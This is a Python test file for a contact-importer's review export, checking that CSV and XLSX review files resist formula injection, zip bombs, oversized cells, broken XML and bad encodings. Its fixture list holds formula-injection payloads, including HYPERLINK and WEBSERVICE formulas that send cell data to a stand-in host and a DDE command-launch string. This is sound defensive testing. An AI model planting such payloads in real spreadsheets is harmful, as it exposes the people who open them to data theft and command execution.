"""Review files as untrusted input: formula injection, size limits, unreadable files (issue "Hardening" 1, 12, 18)."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from einklang.importer import review
from einklang.importer.review import ReviewCandidate, ReviewFileError, ReviewRow, read_review, write_review

FIELDS = ("first_name", "last_name", "email", "phone")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"y")',
    '=WEBSERVICE("http://evil.example/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+49 30 1234",
    "-minus",
    "@SUM(1+1)",
    "\tTab",
    "\rCarriage",
    "'quoted already",
]


def hostile_row(value: str) -> ReviewRow:
    return ReviewRow(
        review_id="R1",
        kind="contact",
        verdict="possible",
        score=0.9,
        reasons=["last_name: exact"],
        sources=["a.csv:3"],
        status="waiting",
        incoming={"first_name": value, "last_name": "Müller"},
        candidates=[ReviewCandidate("17", "v1", 0.9, {"first_name": value, "email": "j@x.de"})],
        fingerprints=["abc"],
        system="crm",
        entity="contact",
        run_id=4,
    )


@pytest.mark.parametrize("value", HOSTILE)
def test_xlsx_holds_every_value_as_text_and_reads_it_back_unchanged(tmp_path: Path, value: str) -> None:
    path = write_review(tmp_path / "r.xlsx", [hostile_row(value)], FIELDS)
    sheet = load_workbook(path).active
    assert sheet is not None
    shown = value.replace("\r", "\n")  # XML reads a bare CR as LF
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == shown]
    assert len(cells) == 2  # incoming and candidate 1
    assert all(cell.data_type == "s" for cell in cells)
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    if value.startswith("\r"):
        return  # `review apply` takes the values from the state store anyway
    [row] = read_review(path)
    assert row.incoming["first_name"] == value
    assert row.candidates[0].values["first_name"] == value


@pytest.mark.parametrize("lang", ["en", "de"])
@pytest.mark.parametrize("value", HOSTILE)
def test_csv_prefixes_formula_starts_and_reads_them_back_unchanged(tmp_path: Path, value: str, lang: str) -> None:
    path = write_review(tmp_path / "r.csv", [hostile_row(value)], FIELDS, lang)
    text = path.read_bytes().decode("utf-8-sig")
    cells = [
        cell
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=";" if lang == "de" else ",")
        for cell in line
    ]
    assert cells.count("'" + value) == 2
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    [row] = read_review(path)
    assert row.incoming["first_name"] == value
    assert row.candidates[0].values["first_name"] == value


# ---------------------------------------------------------------------------- unreadable files (18)


def test_csv_resaved_in_cp1252_is_a_file_line_error(tmp_path: Path) -> None:
    path = write_review(tmp_path / "r.csv", [hostile_row("Jürgen")], FIELDS, "en")
    text = path.read_text(encoding="utf-8-sig").replace("R1,contact,,", "R1,contact,merge,")
    path.write_bytes(text.encode("cp1252"))
    with pytest.raises(ReviewFileError, match=r"r\.csv:2: not UTF-8"):
        read_review(path)


def test_letters_in_a_number_column_are_a_file_line_error(tmp_path: Path) -> None:
    path = write_review(tmp_path / "r.csv", [hostile_row("Jürgen")], FIELDS, "en")
    text = path.read_text(encoding="utf-8-sig").replace(",0.9,", ",abc,", 1)
    path.write_text(text, encoding="utf-8-sig")
    with pytest.raises(ReviewFileError, match=r"r\.csv:2: score: 'abc' is not a number"):
        read_review(path)


def test_letters_in_the_run_id_are_a_file_line_error(tmp_path: Path) -> None:
    path = write_review(tmp_path / "r.xlsx", [hostile_row("Jürgen")], FIELDS, "en")
    workbook = load_workbook(path)
    sheet = workbook.active
    assert sheet is not None
    header = [cell.value for cell in sheet[1]]
    sheet.cell(2, header.index("run_id") + 1).value = "four"
    workbook.save(path)
    with pytest.raises(ReviewFileError, match=r"r\.xlsx:2: run_id: 'four' is not a whole number"):
        read_review(path)


def rewrite_member(path: Path, name: str, change: object) -> None:
    with zipfile.ZipFile(path) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
    members[name] = change(members[name])  # type: ignore[operator]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, data in members.items():
            archive.writestr(member, data)


def test_broken_sheet_xml_is_a_clear_error(tmp_path: Path) -> None:
    path = write_review(tmp_path / "r.xlsx", [hostile_row("Jürgen")], FIELDS, "en")
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda data: data[: len(data) // 2])
    # a sheet written row by row has no size up front, so openpyxl reads it through on opening
    with pytest.raises(ReviewFileError, match=r"r\.xlsx.*(broken xlsx content|not a readable xlsx file)"):
        read_review(path)


# ---------------------------------------------------------------------------- size limits (12)


def test_archive_that_unpacks_too_large_is_refused_before_parsing(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    path = write_review(tmp_path / "r.xlsx", [hostile_row("Jürgen")], FIELDS, "en")
    # a sheet of 300 MB of zeros compresses to a few hundred KB: a zip bomb in small
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda data: data + b" " * (300 * 1024 * 1024))
    assert path.stat().st_size < 2 * 1024 * 1024

    def no_parsing(*_args: object, **_kwargs: object) -> None:
        raise AssertionError("the archive was parsed")

    monkeypatch.setattr(review, "load_workbook", no_parsing)
    with pytest.raises(ReviewFileError, match="too large"):
        read_review(path)


def test_oversized_cell_is_refused(tmp_path: Path) -> None:
    path = write_review(tmp_path / "r.xlsx", [hostile_row("Jürgen")], FIELDS, "en")
    # openpyxl cuts what it writes to Excel's limit; a crafted file need not
    rewrite_member(path, "xl/worksheets/sheet1.xml", lambda data: data.replace("Müller".encode(), b"x" * 40_000))
    with pytest.raises(ReviewFileError, match=r"r\.xlsx:2: a cell of 40,000 characters"):
        read_review(path)


def test_oversized_file_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = write_review(tmp_path / "r.csv", [hostile_row("Jürgen")], FIELDS, "en")
    monkeypatch.setattr(review, "MAX_FILE_BYTES", 100)
    with pytest.raises(ReviewFileError, match="too large"):
        read_review(path)


def test_openpyxl_parses_with_defusedxml() -> None:
    import openpyxl.xml

    assert openpyxl.xml.DEFUSEDXML


def test_a_review_file_is_readable_by_its_owner_only(tmp_path: Path) -> None:
    from einklang.importer.review import write_review

    for name in ("review.xlsx", "review.csv"):
        path = write_review(tmp_path / name, [], ["first_name", "last_name"])
        assert path.stat().st_mode & 0o777 == 0o600, name
